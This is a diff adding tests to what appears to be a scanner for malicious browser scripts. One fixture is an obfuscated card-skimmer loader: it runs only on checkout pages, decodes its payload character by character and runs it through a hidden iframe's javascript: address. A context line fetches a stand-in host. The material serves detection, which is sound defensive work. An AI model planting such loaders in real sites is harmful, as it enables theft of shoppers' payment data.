@@ -27,6 +27,36 @@ describe('code in a data: address', () => {
   })
 })
 
+describe('code in a javascript: address', () => {
+  it('is read as a layer, percent-decoded', () => {
+    const url = `javascript:${encodeURIComponent(SKIM)}`
+    const source = `var f = document.createElement('iframe'); document.body.appendChild(f); f.src = ${JSON.stringify(url)}`
+    expect(layersOf(source)).toContain(SKIM)
+  })
+
+  it("is worked out however long the decoding, and judged: a frame's location sent there", () => {
+    // reversed and shifted by one, decoded by a loop over every character
+    const hidden = [...SKIM]
+      .reverse()
+      .map((c) => String.fromCharCode(c.charCodeAt(0) + 1))
+      .join('')
+    const source = `(function () {
+      function un(s) { var o = []; for (var i = 0; i < s.length; i++) o.push(String.fromCharCode(s.charCodeAt(i) - 1)); return o.reverse().join('') }
+      if (!/checkout/.test(location.pathname)) return
+      var f = document.createElement('iframe'); f.style.display = 'none'; document.body.appendChild(f)
+      var go = 'javascript:' + encodeURIComponent(un(${JSON.stringify(hidden)}))
+      f.contentWindow.location.href = go
+    })()`
+    const v = analyzeScript(source, { url: 'https://shop.example/js/cart.js' })
+    expect(v.verdict).toBe('malicious')
+    expect(v.findings.map((f) => f.rule)).toContain('card-field-read-and-send')
+  })
+
+  it('a javascript: address that does nothing is no layer', () => {
+    expect(layersOf(`document.querySelector('a').href = 'javascript:void(0)'`)).toEqual([])
+  })
+})
+
 describe('a pattern read as text', () => {
   it("gives the pattern's source and flags", () => {
     const source = `var u = /https:\\/\\/h\\.example\\/c/.source.replace(/\\\\(.)/g, '$1'); var f = /x/gi.flags; fetch(u + f)`
